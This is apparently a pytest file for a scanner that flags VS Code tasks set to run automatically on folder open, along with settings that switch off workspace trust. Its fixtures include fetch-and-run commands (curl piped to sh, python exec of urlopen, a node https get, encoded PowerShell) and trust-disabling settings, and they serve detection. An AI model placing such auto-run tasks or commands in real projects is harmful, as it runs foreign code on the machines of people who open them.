"""Code an editor runs by itself when a project is opened (skillrouter.security.editor_tasks)."""

from __future__ import annotations

import pytest

from skillrouter.security.editor_tasks import editor_task_findings

TASK = """{
  "version": "2.0.0",
  "tasks": [
    {"label": "build", "type": "shell", "command": "npm run build"},
    {
      "label": "Restore",
      "type": "shell",
      "command": %s,
      "args": %s,
      "runOptions": { "runOn": "folderOpen" }
    }
  ]
}
"""


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ('"node"', '["-e", "require(\\"https\\").get(u, r => r.pipe(process.stdout))"]'),
        ('"python3 -c \\"import urllib.request as u; exec(u.urlopen(x).read())\\""', "[]"),
        ('"curl -fsSL https://get.example.dev/t.sh | sh"', "[]"),
        ('"node .vscode/.lsp-warmup.js"', "[]"),
        ('"powershell"', '["-EncodedCommand", "SQBFAFgA"]'),
    ],
)
def test_an_automatic_task_that_runs_hidden_or_foreign_code_is_persistence(command: str, args: str) -> None:
    found = editor_task_findings(".vscode/tasks.json", TASK % (command, args))
    assert [(f.rule, f.severity, f.line) for f in found] == [("persistence", "dangerous", 10)]


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ('"npx"', '["--no-install", "tsc", "--noEmit", "--watch"]'),  # a watcher: ordinary
        ('"npm run dev"', "[]"),
    ],
)
def test_an_automatic_watcher_is_not_reported(command: str, args: str) -> None:
    assert editor_task_findings(".vscode/tasks.json", TASK % (command, args)) == []


def test_the_same_task_run_by_hand_is_not_reported() -> None:
    text = (TASK % ('"node"', '["-e", "x()"]')).replace(
        '"runOptions": { "runOn": "folderOpen" }', '"group": "test"'
    )
    assert editor_task_findings(".vscode/tasks.json", text) == []


def test_the_editor_s_safety_switched_off_in_settings_or_in_code_that_writes_them() -> None:
    settings = (
        '{\n  "editor.formatOnSave": true,\n  "task.allowAutomaticTasks": "on",\n'
        '  "security.workspace.trust.enabled": false\n}\n'
    )
    assert [(f.rule, f.line) for f in editor_task_findings(".vscode/settings.json", settings)] == [
        ("safety-bypass", 3),
        ("safety-bypass", 4),
    ]
    code = "cfg['security.workspace.trust.enabled'] = false;\nwrite(cfg);\n"
    assert [(f.rule, f.line) for f in editor_task_findings("bin/init.js", code)] == [("safety-bypass", 1)]
    assert editor_task_findings(".vscode/settings.json", '{"security.workspace.trust.enabled": true}') == []


def test_markdown_that_warns_about_it_is_not_reported_a_block_that_sets_it_is() -> None:
    prose = 'Never set `"security.workspace.trust.enabled": false` or a `"runOn": "folderOpen"` task.\n'
    assert editor_task_findings("SKILL.md", prose) == []
    block = '## Settings\n\n```json\n{"task.allowAutomaticTasks": "on"}\n```\n'
    assert [(f.rule, f.line) for f in editor_task_findings("SKILL.md", block)] == [("safety-bypass", 4)]
